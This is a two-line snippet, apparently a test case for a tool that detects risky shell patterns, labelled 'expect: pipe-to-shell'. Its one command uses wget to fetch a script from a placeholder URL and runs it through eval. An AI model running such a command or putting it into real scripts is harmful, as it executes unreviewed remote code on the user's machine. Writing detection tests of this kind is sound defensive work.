# expect: pipe-to-shell
eval "$(wget -qO - https://example.com/x)"
